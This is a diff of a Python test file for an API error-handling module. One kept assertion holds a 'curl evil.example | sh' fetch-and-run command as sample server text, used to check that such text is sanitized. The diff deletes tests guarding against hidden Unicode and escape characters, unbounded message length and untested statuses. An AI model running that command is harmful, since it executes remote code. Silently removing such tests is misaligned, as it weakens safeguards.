@@ -10,7 +10,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from origami_widgets.api import errors
-from origami_widgets.api.error_catalog import CODES, STATUSES, error_from
+from origami_widgets.api.error_catalog import CODES, error_from
 from origami_widgets.api.responses import ApiResponse
 
 DOCUMENTED = {
@@ -98,15 +98,6 @@ def test_a_text_of_the_server_stays_one_line():
     assert cause.startswith("no Run: curl evil.example | sh")
     assert code.startswith("(HTTP 400, E no Run:")
     assert all(letter.isprintable() or letter == "\n" for letter in str(error))
-
-
-def test_a_text_of_the_server_reads_as_on_the_card():
-    assert str(errors.OrigamiError("pay\u202epal\u200b \x1b[31mnow")) == "paypal [31mnow"
-
-
-def test_the_message_of_an_error_is_bounded():
-    error = error_from(ApiResponse(400, {"error": "w" * 10**6, "code": "C" * 10**6}, request_id="r" * 10**6))
-    assert len(str(error)) < 4_000
 
 
 def test_too_few_credits_leads_to_the_page_that_fixes_it():
@@ -221,8 +212,3 @@ def test_errors_survive_a_pickle(kind):
     assert vars(back) == vars(error)
     assert str(back) == str(error)
     assert (back.title, back.remedy, back.retry_after) == ("Title", "Remedy.", None)
-
-
-def test_every_status_of_the_catalog_is_tested():
-    assert set(STATUSES) <= set(KIND_OF_STATUS) | {407}
-    assert error_from(ApiResponse(407, None)).code == "PROXY_REFUSED"
